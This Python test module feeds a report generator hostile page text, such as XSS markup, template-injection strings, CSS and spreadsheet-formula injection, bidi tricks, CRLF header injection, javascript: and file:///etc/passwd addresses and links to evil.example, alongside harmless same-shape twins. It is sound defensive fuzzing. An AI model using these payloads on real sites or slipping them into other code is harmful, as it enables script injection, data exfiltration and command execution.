"""Text of pages that want to break a report, put wherever a report shows text that is not ours, and a harmless twin."""

from __future__ import annotations

import re
from collections.abc import Iterator, Mapping
from dataclasses import fields, is_dataclass, replace
from enum import Enum
from itertools import product
from typing import Any

from reports.text import is_web_address
from store.model import RuleCard
from store.packing import storable

RUN = "window.pwned=1;alert(1)"
MARKUP = (
    f"<script>{RUN}</script>", f'"><img src=x onerror="{RUN}">', f"'><svg onload='{RUN}'>", "</title></head><body>",
    f"</script><script>{RUN}</script>", f"</style><style>*{{display:none}}</style><script>{RUN}</script>",
    f"</noscript><img src=x onerror={RUN}>", f"</template></details></main><iframe srcdoc='<script>{RUN}</script>'>",
    f"<![CDATA[<script>{RUN}</script>]]>", f"--><script>{RUN}</script><!--", "<!--", "<plaintext>", "<textarea>",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="', f"' onclick='{RUN}'", f"` onclick=`{RUN}`",
    f"<details open ontoggle={RUN}>", f"<a href='javascript:{RUN}'>x</a>", "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=https://evil.example/><input name=q autofocus><button>x", "<object data=//evil.example/x></object>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>", f"<svg><use href='data:image/svg+xml,{RUN}#x'/>",
    f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>", "<img srcset='https://evil.example/a.png 2x'>",
    "<style>@import url(https://evil.example/x.css);</style>", "<video poster=//evil.example/p.png><source src=x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "&amp;lt;b&amp;gt;",
    "&nbsp;&zwnj;",
    "\u2028<b>\u2029", "<bdo dir=rtl>evil", "<mark>", "</bdi></code></pre></td></tr></table>", "<dialog open>hello",
)  # fmt: skip
TEMPLATES = (
    "{{ 7*7 }}", "{% include 'report.html' %}", "{{ ''.__class__.__mro__ }}", "{# gone", "{0.__class__}", "{n}",
    "%(n)s",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}", "%s%n%x", "{host}{date}{", "}}",
    "{%",
)  # fmt: skip
STYLES = (
    "x{background:url(https://evil.example/?css)}", "expression(alert(1))", "position:fixed;inset:0;z-index:99999",
    "';}*{display:none!important}", "url(javascript:alert(1))", "#a{color:red}/*",
    "*/ body{background:url(//evil.example)}",
)  # fmt: skip
FORMULAS = ("=1+1", '=HYPERLINK("https://evil.example","x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "|x")
WRITING = (
    "\u202eevil\u202c", "\u202e\u202e\u202eall to the left", "\u2067right\u2069\u2066left\u2069", "\u2068unclosed",
    "\u061carabic mark", "\u200f\u200fmark", "ev\u200bil\u200c\u200d\ufeffzero", "\u2060joined", "\u00adsoft",
    "عنوان <b>عربي</b> with (brackets) 12/34", "שלום \"עולם\" 5%", "日本語の題名", "👩‍👩‍👧‍👦🏳️‍🌈👍🏽",
    "Z̸̡̛͉̻̈́͝a̷̢̱͌͒l̶̨̰̿g̸̨̛o̷",
    "ﷺ" * 5, "W" * 300, "a-b_c." * 60, "ا" * 250, "\u0300" * 40, "x\ud800y", "\udc00",
    "a\x00b\x07\x1b[31mred\x1b]8;;http://x\x07",
    "line\r\nSet-Cookie: a=b\r\n\r\n<html>", "`code", "a `b` c ` d", "```", "[x](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    "@everyone #1 ![", "~~~\n# heading\n- list", "\\", "\"", "'", "&", "<", ">", "|", "\x7f\x85\xa0",
    "\ufff9\ufffa\ufffb\uffff",
)  # fmt: skip
ADDRESSES = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f" javascript:{RUN}", f"\x01javascript:{RUN}",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)", "file:///etc/passwd", "//evil.example/x", "blob:https://evil.example/1", "about:blank#x",
    f'https://shop.example/"onmouseover="{RUN}', f"https://shop.example/'><script>{RUN}</script>",
    "https://shop.example/%22%3E%3Cscript%3Ealert(1)%3C/script%3E", "https://shop.example/%E2%80%AE%D8%A3",
    "https://shop.example/%00%0d%0a%3C", "https://user:pass@evil.example/", "http://shop.example\\@evil.example/",
    "https://shop.example/" + "a" * 900, "https://shop.example/\u202egnp.exe", "https://xn--80ak6aa92e.example/",
    "https://shop.example/?q={{7*7}}&<b>&x=%E0%A4%A", "https://[::1]/", "https://", "http:", "mailto:a@b?subject=<b>",
    "https://shop.example/%F0%9F%92%A9/%d8%a7%d9%84%d8%b9%d8%b1%d8%a8%d9%8a%d8%a9", "https://shop.example/a b\tc",
)  # fmt: skip

_TEXTS = frozenset(
    "title message selector place snippet target text detail reason failure why what how before now role account notes "
    "limit segments columns facts seen_text link headers emulations template conditions gaps queries examples "
    "kind_said anchor value language label heading fault".split()
)
_NAMED = frozenset({"Template", "TabStop", "TemplateSpeed", "SearchSums", "Bar", "PortalSite", "TrafficSource"})
_OURS = frozenset({("PortalRun", "link"), ("EventRow", "what")})
_ADDRESSES = frozenset(
    "url start_url sample_url final_url redirect_to frames_url file target examples address to".split()
)
_WHITE = re.compile(r"[^\s`\n]")


class Poison:
    """Deals out hostile texts, each with a number of its own; `is_harmless` deals out their twins instead.

    A twin has the same length, the same breaks and the same marks for code, and is an address where the other is one.
    """

    def __init__(self, is_harmless: bool) -> None:
        """Start with the first text."""
        self.is_harmless = is_harmless
        self.dealt: list[str] = []
        self._texts = _endless(MARKUP, TEMPLATES, STYLES, FORMULAS, WRITING)
        self._addresses = _endless(ADDRESSES, MARKUP)

    def text(self) -> str:
        """The next text."""
        return self._deal(next(self._texts))

    def address(self) -> str:
        """The next address."""
        return self._deal(next(self._addresses))

    def _deal(self, text: str) -> str:
        number = f"q{len(self.dealt)}z"
        text = storable(text)
        self.dealt.append(number)
        if not self.is_harmless:
            return text + number
        start = "https://shop.example/" if is_web_address(text) else ""
        start = start or ("http" if text.startswith("http") else "")
        return start + _WHITE.sub("x", text[len(start) :]) + number

    def poured(self, given: Any, key: str = "") -> Any:
        """`given` with every text of a site in it replaced; what is ours stays."""
        if isinstance(given, RuleCard | Enum):
            return given
        if is_dataclass(given) and not isinstance(given, type):
            kind = type(given).__name__
            found = {one.name: self.poured(getattr(given, one.name), self._key(kind, one.name))
                     for one in fields(given) if one.init}  # fmt: skip
            return replace(given, **found)
        if isinstance(given, Mapping):
            return {one: self.poured(value, key if key in _TEXTS else str(one)) for one, value in given.items()}
        if isinstance(given, list | tuple):
            poured = [self.poured(value, key) for value in given]
            return type(given)(*poured) if hasattr(given, "_fields") else type(given)(poured)
        if isinstance(given, str) and given and key in _ADDRESSES:
            return self.address()
        return self.text() if isinstance(given, str) and given and key in _TEXTS else given

    def _key(self, kind: str, name: str) -> str:
        if name == "name" and kind in _NAMED:
            return "text"
        return "" if (kind, name) in _OURS else name


def _endless(*groups: tuple[str, ...]) -> Iterator[str]:
    """Every text, then each between two others: for thousands of different ones."""
    known = tuple(one for group in groups for one in group)
    while True:
        yield from known
        yield from (first + second for first, second in product(known, known) if first is not second)
